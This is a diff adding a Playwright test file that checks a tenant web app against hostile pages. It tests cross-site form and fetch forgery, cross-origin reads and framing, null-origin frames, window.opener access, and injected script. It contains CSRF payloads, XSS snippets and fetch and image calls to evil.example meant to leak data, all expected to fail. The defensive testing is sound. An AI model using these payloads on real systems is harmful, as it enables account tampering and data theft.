@@ -1,0 +1,128 @@
+import type { Page } from '@playwright/test'
+import { expect, test } from './fixtures'
+
+// What a page of somebody else can do to a learner who is logged in, in a real browser: a stranger's site, a sibling below the tenant's own
+// domain, and a frame without an origin.
+
+const tenant = 'bgy.localhost'
+const attackers = { 'a stranger': 'evil.localhost', 'a sibling of the same site': `evil.${tenant}` }
+
+/** Opens a page of the attacker's, whatever stands on that host. */
+async function standAt(page: Page, address: string, body = '<!doctype html><title>attack</title>'): Promise<void> {
+  await page.route(`${new URL(address).origin}/**`, (route) => route.fulfill({ contentType: 'text/html', body }))
+  await page.goto(address)
+}
+
+test.describe('a page of another site', () => {
+  // Refused requests and frames are what is wanted here.
+  test.use({ quiet: [/./] })
+
+  for (const [who, host] of Object.entries(attackers)) {
+    test(`of ${who} changes nothing by forms, fetch, pictures or frames`, async ({ page, context, loginAs, origin }) => {
+      await loginAs('liming', tenant)
+      const target = origin(tenant)
+      const answered: [string, string, number][] = []
+      context.on('response', (response) => {
+        const url = new URL(response.url())
+        if (url.origin === target && url.pathname.startsWith('/api/')) answered.push([response.request().method(), url.pathname, response.status()])
+      })
+      const phone = async () => (await (await context.request.get(`${target}/MyName`)).text()).includes('13755550000')
+      await standAt(page, `http://${host}:${new URL(target).port}/`)
+      await page.evaluate(async (at) => {
+        const inFrame = (name: string) => Object.assign(document.body.appendChild(document.createElement('iframe')), { name })
+        const tries: Promise<unknown>[] = []
+        for (const [path, fields] of [['/api/session/end', {}], ['/api/account/contact', { phone: '13755550000' }], ['/api/favourites/item', { kind: 'course', id: '101001' }], ['/api/messages/read-all', {}]] as const) {
+          for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
+            const form = document.body.appendChild(document.createElement('form'))
+            const frame = `frame${document.forms.length}`
+            inFrame(frame)
+            // As near to JSON as a form comes.
+            Object.assign(form, { method: 'post', action: at + path, enctype, target: frame })
+            form.append(Object.assign(document.createElement('input'), { name: `{"x":"`, value: `","phone":"13755550000"}` }))
+            form.submit()
+          }
+          const body = JSON.stringify(fields)
+          for (const init of [{ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }, { mode: 'cors', headers: { 'content-type': 'application/json' } }, { mode: 'no-cors', referrerPolicy: 'no-referrer' }] as RequestInit[]) tries.push(fetch(at + path, { method: 'POST', credentials: 'include', body, ...init }).catch(() => null))
+          tries.push(Promise.resolve(navigator.sendBeacon(at + path, new Blob([body], { type: 'text/plain' }))))
+          tries.push(new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: at + path })))
+        }
+        await Promise.all(tries)
+      }, target)
+      await expect.poll(() => answered.filter(([method]) => method === 'POST').length).toBeGreaterThan(8)
+      expect(answered.filter(([, , status]) => status < 400)).toEqual([])
+      // The session lives, and nothing was changed.
+      expect(await phone()).toBe(false)
+      const unread = await context.request.get(`${target}/api/messages/unread`)
+      expect(unread.status()).toBe(200)
+    })
+
+    test(`of ${who} reads nothing and frames nothing`, async ({ page, loginAs, origin }) => {
+      await loginAs('liming', tenant)
+      const target = origin(tenant)
+      const at = `http://${host}:${new URL(target).port}/`
+      await standAt(page, at, `<!doctype html>${['/Home', '/login', '/api/session/end', '/api/public/files/admin/file/logo/82.svg'].map((path) => `<iframe src="${target}${path}"></iframe>`).join('')}`)
+      await expect.poll(() => page.frames().filter((frame) => frame.parentFrame() && frame.url().startsWith(target)).length).toBe(0)
+      const read = await page.evaluate(async (from) => {
+        const words: string[] = []
+        for (const path of ['/Home', '/api/messages/unread', '/api/public/session/who']) {
+          for (const mode of ['cors', 'no-cors'] as const) words.push(await fetch(from + path, { credentials: 'include', mode }).then((reply) => reply.text(), () => ''))
+        }
+        const image = await new Promise((done) => Object.assign(new Image(), { onload: () => done('shown'), onerror: () => done('blocked'), src: `${from}/api/public/files/admin/file/logo/82.svg` }))
+        const script = await new Promise((done) => document.head.append(Object.assign(document.createElement('script'), { onload: () => done('ran'), onerror: () => done('blocked'), src: `${from}/api/public/session/who` })))
+        return { words: words.join(''), image, script }
+      }, target)
+      expect(read.words).toBe('')
+      expect(read.script).toBe('blocked')
+      // A sibling is of the same site; CORP is about origins.
+      expect(read.image).toBe('blocked')
+    })
+  }
+
+  test('in a frame without an origin is nobody', async ({ page, context, loginAs, origin }) => {
+    await loginAs('liming', tenant)
+    const target = origin(tenant)
+    const statuses: number[] = []
+    context.on('response', (response) => {
+      if (response.url() === `${target}/api/session/end`) statuses.push(response.status())
+    })
+    await standAt(page, `http://${attackers['a sibling of the same site']}:${new URL(target).port}/`, `<!doctype html><iframe sandbox="allow-scripts allow-forms" srcdoc="<form method=post action='${target}/api/session/end'></form>"></iframe>`)
+    const frame = page.frames().find((one) => one.parentFrame())!
+    await frame.evaluate(async (address) => {
+      await fetch(address, { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' }).catch(() => null)
+      document.forms[0]!.submit()
+    }, `${target}/api/session/end`)
+    await expect.poll(() => frame.url()).not.toBe('about:srcdoc')
+    expect(statuses.filter((status) => status < 400)).toEqual([])
+    expect((await context.request.get(`${target}/api/messages/unread`)).status()).toBe(200)
+  })
+
+  test('opened beside ours has no hand on our window', async ({ page, context, loginAs, origin }) => {
+    await loginAs('liming', tenant)
+    await standAt(page, `http://${attackers['a stranger']}:${new URL(origin(tenant)).port}/`)
+    const opened = context.waitForEvent('page')
+    await page.evaluate((address) => Object.assign(window, { victim: window.open(address) }), `${origin(tenant)}/Home`)
+    const victim = await opened
+    await victim.waitForLoadState()
+    expect(await victim.evaluate(() => window.opener === null)).toBe(true)
+    expect(await page.evaluate(() => (window as unknown as { victim: Window }).victim.closed)).toBe(true)
+  })
+})
+
+test.describe('a script that found its way into a page', () => {
+  test.use({ quiet: [/Content.Security.Policy|Refused to|violates|404 \(Not Found\)/i] })
+  test('does not run where the policy has a nonce, and sends nothing out', async ({ page, loginAs, origin }) => {
+    await loginAs('liming')
+    await page.goto(`${origin()}/Home`)
+    const ran = await page.evaluate(async () => {
+      const kinds = ['<img src="/art/none.png" onerror="window.ran = 1">', '<svg onload="window.ran = 2"></svg>', '<iframe srcdoc="<script>parent.ran = 3</script>"></iframe>', '<a id="js" href="javascript:window.ran=4">x</a>', '<form id="out" action="https://evil.example"><input></form>']
+      const violated = new Promise((done) => document.addEventListener('securitypolicyviolation', done, { once: true }))
+      for (const html of kinds) document.body.insertAdjacentHTML('beforeend', html)
+      document.getElementById('js')!.click()
+      await violated
+      const sent = await fetch('https://evil.example/?leak', { mode: 'no-cors' }).then(() => 'sent', () => 'refused')
+      const picture = await new Promise((done) => Object.assign(new Image(), { onload: () => done('sent'), onerror: () => done('refused'), src: 'https://evil.example/p.gif' }))
+      return { ran: (window as unknown as { ran?: number }).ran ?? null, sent, picture }
+    })
+    expect(ran).toEqual({ ran: null, sent: 'refused', picture: 'refused' })
+  })
+})
